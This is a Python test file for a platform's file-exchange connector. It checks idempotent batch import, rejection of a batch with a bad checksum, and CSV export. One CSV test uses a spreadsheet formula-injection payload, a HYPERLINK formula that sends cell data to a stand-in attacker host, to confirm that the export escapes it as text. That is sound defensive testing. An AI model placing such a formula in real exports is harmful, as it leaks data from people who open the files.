"""Data files both ways with a department system that exchanges files (examples/file_exchange):
the platform's batches are checked and taken in once; the department's result batches are
applied once, even when read twice."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

from sqlalchemy import Engine

from examples.file_exchange import exchange
from tests.connectors.conftest import SystemFactory, submit
from tongban.applications import service as applications_service
from tongban.applications.states import Status
from tongban.db.session import unit_of_work
from tongban.identity.models import Account
from tongban.integration import dispatcher, inbox


def file_connector(outgoing: Path, incoming: Path) -> dict[str, object]:
    return {
        "name": "files",
        "kind": "file",
        "config": {"directory": str(outgoing), "format": "jsonl", "inbox": str(incoming)},
        "mapping": {"number": "sqbh", "form.full_name": "xm"},
        "events": ["application.submitted"],
    }


class TestFileExchange:
    def test_results_come_back_and_are_applied_once(
        self,
        engine: Engine,
        register_system: SystemFactory,
        applicant: Account,
        tmp_path: Path,
        department: str,
    ) -> None:
        to_department, to_platform = tmp_path / "to_department", tmp_path / "to_platform"
        system = register_system([file_connector(to_department, to_platform)])
        numbers = [submit(engine, applicant, department) for _ in range(2)]
        assert dispatcher.dispatch_once(engine, systems=[system]).delivered == 2

        department_db = exchange.connect(tmp_path / "department.db")
        assert exchange.ingest(to_department, department_db) == 2
        assert exchange.answer(department_db, to_platform, action="accept") == 2

        report = inbox.import_inboxes(engine)
        assert (report.batches, report.applied, report.duplicates) == (1, 2, 0)
        with unit_of_work(engine) as session:
            for number in numbers:
                assert applications_service.get(session, applicant, number).status is (
                    Status.ACCEPTED
                )

        # The same batch read again (say, the platform died before moving it): nothing twice.
        for path in (to_platform / "processed").iterdir():
            shutil.copy(path, to_platform / path.name)
        again = inbox.import_inboxes(engine)
        assert (again.applied, again.duplicates) == (0, 2)

    def test_a_damaged_batch_is_rejected_whole(
        self,
        engine: Engine,
        register_system: SystemFactory,
        tmp_path: Path,
        applicant: Account,
        department: str,
    ) -> None:
        to_platform = tmp_path / "to_platform"
        register_system([file_connector(tmp_path / "out", to_platform)])
        number = submit(engine, applicant, department)
        to_platform.mkdir()
        row = {"idempotency_key": "k-damaged-1", "application": number, "action": "accept"}
        (to_platform / "b.jsonl").write_text(json.dumps(row) + "\n")
        (to_platform / "b.manifest.json").write_text(
            json.dumps({"file": "b.jsonl", "rows": 1, "sha256": "0" * 64})
        )
        report = inbox.import_inboxes(engine)
        assert report.applied == 0
        assert any("checksum" in problem for problem in report.rejected_batches)
        assert (to_platform / "rejected" / "b.manifest.json").exists()
        with unit_of_work(engine) as session:
            assert applications_service.get(session, applicant, number).status is (Status.SUBMITTED)

    def test_the_department_ignores_a_batch_it_took_in_before(
        self,
        engine: Engine,
        register_system: SystemFactory,
        applicant: Account,
        tmp_path: Path,
        department: str,
    ) -> None:
        to_department = tmp_path / "to_department"
        system = register_system([file_connector(to_department, tmp_path / "in")])
        submit(engine, applicant, department)
        dispatcher.dispatch_once(engine, systems=[system])
        department_db = exchange.connect(tmp_path / "department.db")
        assert exchange.ingest(to_department, department_db) == 1
        for path in (to_department / "processed").iterdir():
            shutil.copy(path, to_department / path.name)
        assert exchange.ingest(to_department, department_db) == 0


class TestCsvBatches:
    def test_text_that_could_run_as_a_formula_is_written_as_text(
        self,
        engine: Engine,
        register_system: SystemFactory,
        applicant: Account,
        tmp_path: Path,
        department: str,
    ) -> None:
        # A CSV batch is what a department clerk opens in a spreadsheet program.
        connector = file_connector(tmp_path / "out", tmp_path / "in")
        connector["config"] = {"directory": str(tmp_path / "out"), "format": "csv"}
        system = register_system([connector])
        name = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
        number = submit(engine, applicant, department, name=name)
        assert dispatcher.dispatch_once(engine, systems=[system]).delivered == 1

        (batch,) = (tmp_path / "out").glob("*.csv")
        rows = list(csv.DictReader(io.StringIO(batch.read_text(encoding="utf-8-sig"))))
        assert [(r["sqbh"], r["xm"]) for r in rows] == [(number, "'" + name)]
